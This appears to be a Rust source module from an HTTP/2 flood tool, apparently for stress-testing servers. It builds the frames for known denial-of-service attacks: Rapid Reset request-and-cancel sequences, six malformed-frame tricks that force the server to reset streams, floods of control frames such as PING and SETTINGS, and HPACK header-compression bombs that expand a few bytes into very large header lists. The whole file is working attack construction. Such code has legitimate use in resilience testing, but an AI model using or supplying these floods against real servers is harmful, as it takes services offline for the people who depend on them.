//! What one round of a flood says: frames, many of which go into one write.

use crate::frames::{Frame, code, flag, hpack, kind, setting};

/// The stream of the n-th request.
pub(super) fn stream(nth: usize) -> u32 {
    u32::try_from(2 * nth + 1).unwrap_or(u32::MAX) & 0x7fff_ffff
}

/// A request of an attack; the fields are those that the surface wants.
pub(super) fn request(nth: usize, flags: u8, fields: &[(&str, &str)]) -> Frame {
    Frame::headers(stream(nth), flag::END_HEADERS | flags, &hpack::literal(fields))
}

/// R1: begun and given up.
pub(super) fn rapid_reset(nth: usize, fields: &[(&str, &str)]) -> Vec<u8> {
    [request(nth, flag::END_STREAM, fields).bytes(), Frame::reset(stream(nth), code::CANCEL).bytes()].concat()
}

/// R1: malformed, so that it is the far end that resets: a field of a connection (RFC 9113, 8.2.2).
pub(super) fn malformed(nth: usize, fields: &[(&str, &str)]) -> Vec<u8> {
    request(nth, flag::END_STREAM, &[fields, &[("connection", "keep-alive")]].concat()).bytes()
}

/// R2: the six ways to have the far end reset a stream, by name; each follows a whole request on its stream.
pub(super) const MADE_RESETS: [&str; 6] =
    ["window of 0", "window overflow", "priority length", "priority on itself", "headers after end", "data after end"];

/// R2: a request, and the n-th way.
pub(super) fn made_reset(way: &str, nth: usize, fields: &[(&str, &str)]) -> Vec<u8> {
    let id = stream(nth);
    let then = match way {
        "window of 0" => Frame::window(id, 0),
        "window overflow" => Frame::window(id, 0x7fff_ffff),
        "priority length" => Frame::new(kind::PRIORITY, 0, id, [0; 4]),
        "priority on itself" => Frame::priority(id, id, 1),
        "headers after end" => request(nth, flag::END_STREAM, fields),
        _ => Frame::data(id, flag::END_STREAM, *b"more"),
    };
    [request(nth, flag::END_STREAM, fields).bytes(), then.bytes()].concat()
}

/// R5: the kinds of frames that ask for work or for an answer, by name.
pub(super) const CONTROL: [&str; 5] = ["PING", "SETTINGS", "PRIORITY", "WINDOW_UPDATE", "unknown type"];

/// R5: one of them.
pub(super) fn control(name: &str) -> Vec<u8> {
    match name {
        "PING" => Frame::ping([7; 8]),
        "SETTINGS" => Frame::settings(&[(setting::INITIAL_WINDOW_SIZE, 65_535)]),
        "PRIORITY" => Frame::priority(1, 3, 1),
        // So small that no flood of them overflows the window.
        "WINDOW_UPDATE" => Frame::window(0, 1),
        _ => Frame::new(0xbe, 0, 0, *b"unknown"),
    }
    .bytes()
}

/// R4: the ways to make much of few bytes, by name.
pub(super) const BOMBS: [&str; 4] = ["one large entry", "many small fields", "cookie crumbs", "host beside authority"];

/// R4: the frames of the n-th request of a bomb; the first one fills the table. `most` is the size to which its fields unfold,
/// as RFC 9113, 6.5.2 counts it.
pub(super) fn bomb(name: &str, nth: usize, most: usize, fields: &[(&str, &str)]) -> Vec<u8> {
    let large = "x".repeat(3900);
    let (field, value) = match name {
        "one large entry" => ("x-large", large.as_str()),
        "many small fields" => ("a", ""),
        "cookie crumbs" => ("cookie", "a=b"),
        _ => ("host", "web"),
    };
    let times = most / (field.len() + value.len() + 32);
    let entry = if nth == 0 { hpack::indexing(field, value) } else { Vec::new() };
    let block = [hpack::literal(fields), entry, hpack::indexed(62).repeat(times)].concat();
    let (first, rest) = block.split_at(block.len().min(16 << 10));
    let end = if rest.is_empty() { flag::END_HEADERS } else { 0 };
    let head = Frame::headers(stream(nth), flag::END_STREAM | end, first).bytes();
    let more = match rest {
        [] => Vec::new(),
        rest => Frame::continuation(stream(nth), flag::END_HEADERS, rest).bytes(),
    };
    [head, more].concat()
}
